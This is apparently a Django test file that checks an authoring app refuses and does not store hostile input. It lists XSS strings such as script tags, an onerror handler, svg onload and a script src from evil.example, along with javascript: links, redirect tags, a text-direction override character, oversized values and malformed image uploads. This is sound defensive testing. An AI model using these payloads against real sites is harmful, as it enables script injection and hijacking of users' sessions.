"""An author who means harm: what nobody could read safely is refused at its field, and nothing of it is stored."""

from collections.abc import Mapping
from io import BytesIO

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from learn.authoring.fact_fields import KIND_FORMS
from learn.authoring.models import Entry, EntryVersion, Picture
from learn.libraries.models import Library
from tests.learn.authoring.item_pages import ANSWERS, at, question
from tests.learn.authoring.samples import SOURCE, TYPED
from tests.learn.authoring.test_fact_pages import new_url
from tests.learn.authoring.test_pictures import SVG, encoded, header, zipped

pytestmark = pytest.mark.django_db

TURNED = "gentle\u202eevil"
HTMX = {"HX-Request": "true"}
HTML = (
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<style>*{display:none}</style>",
    '<img src=x onerror="window.pwned=1">',
    "<svg onload=pwned=1><circle/></svg>",
    '<iframe srcdoc="x"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
)
MARKDOWN = (
    *HTML,
    "![a](https://evil.example/a.png)",
    "![a](/pictures/../accounts/logout/)",
    "[a](//evil.example)",
    "[a](ftp://evil.example)",
    "[a](&#106avascript:pwned=1)",
    "[a](%6Aavascript:pwned=1)",
    TURNED,
    "x" * 1_000_000,
)
INERT = (
    "[a](javascript:pwned=1)",
    "[a](JaVaScRiPt:pwned=1)",
    "[a](vbscript:pwned=1)",
    "[a](java&#115;cript:pwned=1)",
    "[a](javascript&colon;pwned=1)",
    "![pwned](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](data:text/html,pwned)",
    "<javascript:pwned=1>",
    "`<script>window.pwned=1</script>`",
)
"""What Markdown does not take for a link or HTML: it is kept, and shown as the letters it is made of."""


def stored() -> tuple[int, int, int]:
    return Entry.objects.count(), EntryVersion.objects.count(), Picture.objects.count()


ELSEWHERE = ("new_topic", "citation", "link")
"""Told of before the fact is looked at: test_titles_and_sources_hold_nothing_hidden."""


def lines_of(client, cast, kind: str) -> list[str]:
    """Every field of a fact itself into which something can be typed, a row of each group among them."""
    more = {"do": "add:distractors", "distractors-count": "1", "figures-count": "1"}
    shown = client.post(new_url(cast, kind), TYPED[kind] | SOURCE | more).context["form"]
    return [
        name
        for name, field in shown.fields.items()
        if type(field) is forms.CharField
        and not name.endswith("slug")
        and name not in ELSEWHERE
        # A place without a number for its rank is not looked at any further.
        and not name.endswith("-rank")
    ]


@pytest.mark.parametrize("kind", KIND_FORMS)
def test_what_turns_the_direction_is_refused_at_each_field_of_a_fact(kind: str, cast, as_author) -> None:
    before = stored()
    names = lines_of(as_author, cast, kind)
    assert len(names) > 20
    # Each otherwise: of what says the same in plain words, or of two rows of one name, one is kept.
    typed = {name: f"{TURNED} {number}" for number, name in enumerate(names)}
    page = as_author.post(new_url(cast, kind), TYPED[kind] | SOURCE | typed)
    assert (page.status_code, stored()) == (422, before)
    form = page.context["form"]
    told = {name for name in names if name in form.errors or name.split("-")[0] in form.group_errors}
    assert sorted(set(names) - told) == []
    assert {name: form[name].value() for name in names} == typed


@pytest.mark.parametrize("do", ["save", "preview"])
def test_a_megabyte_in_a_field_of_a_fact_is_refused(do: str, cast, as_author) -> None:
    before = stored()
    names = ("term", "also", "note", "tags", "respell", "new_topic", "citation", "distractors-0-text")
    for size, most in ((1_000_000, 1), (3000, len(names))):
        typed = TYPED["definition"] | SOURCE | dict.fromkeys(names[:most], "x" * size) | {"do": do}
        page = as_author.post(new_url(cast, "definition"), typed, headers=HTMX if do == "preview" else {})
        # A part of a page comes with its mistakes in it, as htmx puts nothing refused in place.
        assert (page.status_code, stored()) == (422 if do == "save" else 200, before)
        text = page.content.decode()
        assert all(f'href="#id_{name}"' in text for name in names[:most])
        assert do == "preview" or set(names[:most]) <= set(page.context["form"].errors)


@pytest.mark.parametrize("typed", ["osteoclast", "osteoclast =", "= osteoclast", "=", " = = "])
def test_a_word_without_its_sound_is_told_of(typed: str, cast, as_author) -> None:
    page = as_author.post(new_url(cast, "definition"), TYPED["definition"] | SOURCE | {"respell": typed})
    assert page.status_code == 422
    assert "respell" in page.context["form"].errors


@pytest.mark.parametrize("do", ["save", "preview"])
def test_more_rows_than_a_page_sends_are_a_clear_error(do: str, cast, as_author) -> None:
    before = stored()
    many = {f"distractors-{number}-text": "x" for number in range(100_000)}
    page = as_author.post(new_url(cast, "definition"), TYPED["definition"] | SOURCE | many | {"do": do})
    assert (page.status_code, stored()) == (400, before)
    assert "<h1" in page.content.decode()


@pytest.mark.parametrize("number", ["1e309", "-1e309", "nan", "inf", "9" * 400])
def test_an_endless_number_is_no_number(number: str, cast, as_author, write) -> None:
    fact = write()
    before = stored()
    page = as_author.post(new_url(cast, "statistic"), TYPED["statistic"] | SOURCE | {"number": number})
    assert (page.status_code, stored()) == (422, before)
    assert "number" in page.context["form"].errors
    for name in ("number", "tolerance"):
        sent = question("numeric", facts=[fact.uid], topic=fact.topic) | {name: number}
        page = as_author.post(at(cast.library, "items/new/?format=numeric"), sent)
        assert (page.status_code, stored()) == (422, before)


@pytest.mark.parametrize("number", ["1e309", "1" * 400, "-1", "nan"])
def test_no_number_of_a_page_is_taken_on_trust(number: str, cast, as_author, write, publish) -> None:
    fact = write()
    publish()
    before = stored()
    library = cast.library
    sent = question(facts=[fact.uid], topic=fact.topic) | {
        "difficulty": number,
        "seen": number,
        "choices-count": number,
    }
    assert as_author.post(at(library, "items/new/?format=multiple_choice"), sent).status_code == 422
    typed = TYPED["definition"] | SOURCE | {"seen": number, "distractors-count": number}
    assert as_author.post(at(library, f"facts/{fact.uid}/edit/"), typed).status_code in (409, 422)
    assert as_author.post(at(library, "history/undo/"), {"undoes": number}).status_code in (400, 422)
    assert as_author.get(at(library, f"facts/?page={number}")).status_code == 200
    assert as_author.get(at(library, f"items/new/?copy=item:{number}")).status_code == 404
    assert stored() == before


@pytest.mark.parametrize("bad", MARKDOWN)
def test_markup_that_does_harm_is_refused_at_its_field(bad: str, cast, as_author, write) -> None:
    fact = write()
    before = stored()
    address = at(cast.library, "items/new/?format=multiple_choice")
    names = ("stem",) if len(bad) > 10_000 else ("stem", "rationale", "note", "exhibits-0-text")
    sent = question(facts=[fact.uid], topic=fact.topic, **{"exhibits-0-label": "Notes"})
    sent |= dict.fromkeys(names, f"{bad}\n\nWhich?")
    page = as_author.post(address, sent)
    assert (page.status_code, stored()) == (422, before)
    assert {each.partition("-")[0] for each in names} <= {at for at, _label, _words in page.context["problems"]}
    assert page.context["form"].sheet.value("stem").startswith(bad[:1000]), "what was typed stands in the form"
    assert_harmless(page.content.decode())
    assert_harmless(as_author.post(address, sent | {"do": "try"}, headers=HTMX).content.decode())


@pytest.mark.parametrize("kept", INERT)
def test_what_is_no_link_is_shown_as_it_is_written(kept: str, cast, as_author, write) -> None:
    fact = write()
    sent = question(facts=[fact.uid], topic=fact.topic, stem=f"{kept}\n\nWhich?", rationale=kept, note=kept)
    page = as_author.post(at(cast.library, "items/new/?format=multiple_choice"), sent, follow=True)
    assert page.status_code == 200
    assert_harmless(page.content.decode())
    assert page.content.decode().count("pwned") >= 4


def assert_harmless(page: str) -> None:
    """A quick look at the letters of a page; a browser looks at what it makes of them (tests.journeys)."""
    low = page.lower()
    for part in ("<script>", "<style", "<iframe", "<base", "<svg onload", "<img src=x", "<meta http-equiv"):
        assert part not in low, part
    for start in ('href="', "href='", 'src="', 'action="'):
        assert not any(f"{start}{scheme}" in low for scheme in ("javascript", "vbscript", "data:", "//", "java&"))


LINES = {
    "multiple_choice": ("choices-0-text", "choices-1-why", "tags", "hedge", "exhibits-0-label", "exhibits-0-table"),
    "matrix_choice": ("columns-0-text", "rows-0-text", "rows-0-why"),
    "dropdown": ("text", "blank-what-0-text", "blank-what-1-why"),
    "highlight": ("text", "phrases-1-why"),
    "matching": ("pairs-0-text", "pairs-0-answer", "extras-0-text", "extras-0-why"),
    "short_answer": ("accepts", "near"),
    "numeric": ("unit", "units"),
    "ordered": ("order",),
    "bow_tie": ("actions-0-text", "condition-0-text", "parameters-3-why"),
}
"""The plain lines of questions."""


@pytest.mark.parametrize("made", LINES)
@pytest.mark.parametrize("bad", [TURNED, "z" * 3000], ids=["turned", "long"])
def test_plain_lines_of_questions_are_looked_at_too(made: str, bad: str, cast, as_author, write) -> None:
    fact = write()
    before = stored()
    exhibit = {"exhibits-0-label": "Notes", "exhibits-0-text": "She came in."} if made == "multiple_choice" else {}
    sent = question(made, facts=[fact.uid], topic=fact.topic, **exhibit)
    sent |= {name: f"{ANSWERS[made].get(name, '')} {bad}{place}" for place, name in enumerate(LINES[made])}
    page = as_author.post(at(cast.library, f"items/new/?format={made}"), sent)
    assert (page.status_code, stored()) == (422, before)
    told = {at for at, _label, _words in page.context["problems"]}
    assert {name.partition("-0-")[0].partition("-1-")[0].partition("-3-")[0] for name in LINES[made]} <= told
    assert as_author.post(at(cast.library, f"items/new/?format={made}"), sent | {"do": "try"}).status_code == 200


def test_titles_and_sources_hold_nothing_hidden(cast, as_author, write, publish) -> None:
    write()
    before = stored()
    for rest, sent in (
        ("topics/", {"title": TURNED}),
        ("topics/cells/", {"title": "Cells", "plain_title": TURNED, "seen": "1"}),
        ("references/", {"citation": TURNED}),
        ("decks/new/", {"title": TURNED}),
        ("decks/new/", {"title": "Cells", "description": TURNED}),
        ("settings/", {"title": TURNED}),
        ("settings/", {"title": "Bones", "description": TURNED}),
        ("facts/new/?kind=definition", TYPED["definition"] | SOURCE | {"new_topic": TURNED}),
        ("facts/new/?kind=definition", TYPED["definition"] | SOURCE | {"citation": TURNED}),
        ("facts/new/?kind=definition", TYPED["definition"] | SOURCE | {"link": TURNED}),
    ):
        assert refused(as_author, cast.library, rest, sent) == before
    for link in (
        "JaVaScRiPt:pwned=1",
        "java\tscript:pwned=1",
        "data:text/html,x",
        "//evil.example",
        f"https://{TURNED}",
    ):
        assert refused(as_author, cast.library, "references/", {"citation": "Handbook", "link": link}) == before
    page = as_author.post(reverse("libraries:new"), {"library_id": str(cast.student.pk), "title": TURNED})
    assert page.status_code in (400, 422)
    cast.library.refresh_from_db()
    assert cast.library.title == "Bone notes"


def refused(client, library: Library, rest: str, sent: Mapping[str, str]) -> tuple[int, int, int]:
    page = client.post(at(library, rest), sent)
    assert page.status_code == 422, (rest, sent)
    shown = page.context["form"]
    assert any(name in shown.errors for name in sent), (rest, sent)
    return stored()


def test_a_tag_for_many_questions_holds_nothing_hidden(cast, as_author, write) -> None:
    fact = write()
    as_author.post(at(cast.library, "items/new/?format=multiple_choice"), question(facts=[fact.uid], topic=fact.topic))
    before = stored()
    uid = Entry.objects.get(what="item").uid
    for tag in (TURNED, "t" * 1000):
        as_author.post(at(cast.library, "bank/labels/"), {"uid": [uid], "add": tag})
        assert stored() == before


def noise(side: int) -> bytes:
    """More than two megabytes of a picture that is one."""
    file = BytesIO()
    Image.effect_noise((side, side), 100).save(file, "PNG")
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (zipped(), "whatever its name says"),
        (SVG, "SVG drawing"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>", "SVG drawing"),
        (b"<html><script>pwned=1</script>", "whatever its name says"),
        (header(60_000, 60_000), "too many pixels"),
        (b"", "The file is empty."),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 3_000_000, "larger than 2 MB"),
        (noise(900)[:9000], "the file is damaged"),
        (encoded()[:60], "the file is damaged"),
    ],
    ids=["zip", "svg", "bare svg", "html", "60000", "0 bytes", "3 MB", "cut off", "cut short"],
)
def test_a_file_that_is_no_fit_picture_is_refused_at_its_field(data: bytes, said: str, cast, as_author) -> None:
    file = SimpleUploadedFile("bone.png", data, "image/png")
    page = as_author.post(at(cast.library, "pictures/"), {"file": file, "alt": "A bone under light"})
    assert page.status_code == 422
    assert said in str(page.context["form"].errors["file"])
    assert page.context["form"]["alt"].value() == "A bone under light"
    assert not Picture.objects.exists()


def test_what_a_picture_shows_is_told_in_a_line_that_can_be_read(cast, as_author) -> None:
    for alt in ("x" * 1_000_000, "\u202e", "[]", "\x00bone"):
        file = SimpleUploadedFile("bone.png", encoded(), "image/png")
        page = as_author.post(at(cast.library, "pictures/"), {"file": file, "alt": alt})
        assert (page.status_code, Picture.objects.exists()) == (422, False)
        assert "alt" in page.context["form"].errors
